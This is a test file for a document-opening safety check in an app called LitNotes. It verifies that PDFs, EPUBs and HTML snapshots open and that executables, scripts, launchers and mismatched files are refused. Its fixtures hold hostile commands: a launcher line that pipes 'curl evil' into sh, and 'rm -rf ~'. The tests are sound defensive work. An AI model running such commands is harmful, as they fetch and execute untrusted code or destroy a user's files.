import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { checkDocument, documentKindOfName, isTrustedLocation, sniffDocument, type FileFacts } from '../../server/src/service/attachmentSafety';

const bytes = (text: string) => new TextEncoder().encode(text);
const latin1 = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));

/** The first bytes of an EPUB: a ZIP whose first stored entry is `mimetype`. */
function epubHead(mimetype = 'application/epub+zip'): Uint8Array {
  const header = new Uint8Array(30);
  header.set([0x50, 0x4b, 0x03, 0x04]);
  header[26] = 8; // file name length
  return new Uint8Array([...header, ...bytes('mimetype'), ...bytes(mimetype)]);
}

const pdf = bytes('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj');
const elf = latin1('\x7fELF\x02\x01\x01\x00');
const desktopEntry = bytes('[Desktop Entry]\nType=Application\nExec=sh -c "curl evil | sh"\n');
const shell = bytes('#!/bin/sh\nrm -rf ~\n');
const html = bytes('<!DOCTYPE html> <html lang="en"><!--\n Page saved with SingleFile \n--><head>');

function facts(uri: string, head: Uint8Array, overrides: Partial<FileFacts> = {}): FileFacts {
  return { uri, exists: true, isFile: true, head, ...overrides };
}

describe('which files Open PDF opens', () => {
  test('content: PDF (also after a little junk), EPUB, HTML snapshots', () => {
    assert.equal(sniffDocument(pdf), 'pdf');
    assert.equal(sniffDocument(new Uint8Array([...bytes('\r\n\r\ngarbage'), ...pdf])), 'pdf');
    assert.equal(sniffDocument(epubHead()), 'epub');
    assert.equal(sniffDocument(html), 'html');
    assert.equal(sniffDocument(bytes('\uFEFF  <html><body>')), 'html');
    assert.equal(sniffDocument(bytes('<?xml version="1.0"?>\n<!-- saved -->\n<html xmlns="http://www.w3.org/1999/xhtml">')), 'html');
  });

  test('content: executables, scripts, launchers, other ZIPs and plain text are no documents', () => {
    assert.equal(sniffDocument(elf), undefined);
    assert.equal(sniffDocument(latin1('MZ\x90\x00\x03\x00')), undefined);
    assert.equal(sniffDocument(desktopEntry), undefined);
    assert.equal(sniffDocument(shell), undefined);
    assert.equal(sniffDocument(epubHead('application/java-archive')), undefined, 'a jar is a zip but no EPUB');
    assert.equal(sniffDocument(bytes('PK\x03\x04')), undefined);
    assert.equal(sniffDocument(bytes('just some notes about <html>')), undefined);
    assert.equal(sniffDocument(new Uint8Array([...bytes('<html>'), 0, 1, 2])), undefined, 'NUL bytes: binary');
    assert.equal(sniffDocument(new Uint8Array([...new Uint8Array(1100).fill(32), ...pdf])), undefined, '%PDF- past the first KiB');
    assert.equal(sniffDocument(new Uint8Array()), undefined);
  });

  test('names: only .pdf, .epub, .html/.htm/.xhtml, any case', () => {
    assert.equal(documentKindOfName('file:///a/Paper.PDF'), 'pdf');
    assert.equal(documentKindOfName('file:///a/b.epub'), 'epub');
    assert.equal(documentKindOfName('file:///a/b.htm'), 'html');
    for (const name of ['run.sh', 'evil.desktop', 'setup.exe', 'x.bat', 'x.command', 'x.app', 'x.jar', 'x.py', 'noextension', 'paper.pdf.desktop', 'x.lnk']) {
      assert.equal(documentKindOfName(`file:///a/${name}`), undefined, name);
    }
  });

  test('a PDF, EPUB or HTML file whose content is that kind is opened', () => {
    assert.deepEqual(checkDocument(facts('file:///ws/papers/a.pdf', pdf)), { state: 'ok', document: 'pdf' });
    assert.deepEqual(checkDocument(facts('file:///ws/books/b.epub', epubHead())), { state: 'ok', document: 'epub' });
    assert.deepEqual(checkDocument(facts('file:///ws/snap/index.html', html)), { state: 'ok', document: 'html' });
  });

  test('a missing file: a message naming the path', () => {
    assert.deepEqual(checkDocument(facts('file:///home/ann/Zotero/storage/AB12CD34/Vaswani%20-%202017.pdf', new Uint8Array(), { exists: false, isFile: false })), {
      state: 'missing',
      message: 'The attachment is not there: /home/ann/Zotero/storage/AB12CD34/Vaswani - 2017.pdf. It may have been moved, or the catalog was exported on another computer.',
    });
    const windows = checkDocument(facts('file:///c%3A/Users/ann/paper.pdf', new Uint8Array(), { exists: false, isFile: false }));
    assert.match(windows.state === 'missing' ? windows.message : '', /C:\\Users\\ann\\paper\.pdf/);
  });

  test('refused: any other name whatever the content, a mismatch of name and content, a folder', () => {
    assert.deepEqual(checkDocument(facts('file:///tmp/evil.desktop', pdf)), { state: 'refused', message: 'LitNotes only opens PDF, EPUB and HTML documents, not /tmp/evil.desktop.' });
    assert.deepEqual(checkDocument(facts('file:///tmp/run.sh', shell)).state, 'refused');
    assert.deepEqual(checkDocument(facts('file:///tmp/paper.pdf', elf)), { state: 'refused', message: 'LitNotes did not open /tmp/paper.pdf: the name says PDF, but its content is not a document.' });
    assert.deepEqual(checkDocument(facts('file:///tmp/paper.pdf', desktopEntry)).state, 'refused');
    assert.deepEqual(checkDocument(facts('file:///tmp/paper.pdf', html)), { state: 'refused', message: 'LitNotes did not open /tmp/paper.pdf: the name says PDF, but its content is HTML.' });
    assert.deepEqual(checkDocument(facts('file:///tmp/page.html', pdf)).state, 'refused');
    assert.deepEqual(checkDocument(facts('file:///tmp/Evil.pdf', new Uint8Array(), { isFile: false })), { state: 'refused', message: 'The attachment is not a regular file: /tmp/Evil.pdf.' });
  });

  test('trusted locations: inside a workspace folder or Zotero storage, not a sibling with the same prefix', () => {
    const trusted = ['file:///home/ann/thesis', 'file:///home/ann/Zotero/storage'];
    assert.equal(isTrustedLocation('file:///home/ann/thesis/papers/a.pdf', trusted), true);
    assert.equal(isTrustedLocation('file:///home/ann/Zotero/storage/AB12CD34/a.pdf', trusted), true);
    assert.equal(isTrustedLocation('file:///home/ann/thesis-old/a.pdf', trusted), false);
    assert.equal(isTrustedLocation('file:///home/ann/Downloads/a.pdf', trusted), false);
    assert.equal(isTrustedLocation('file:///tmp/a.pdf', []), false);
  });
});
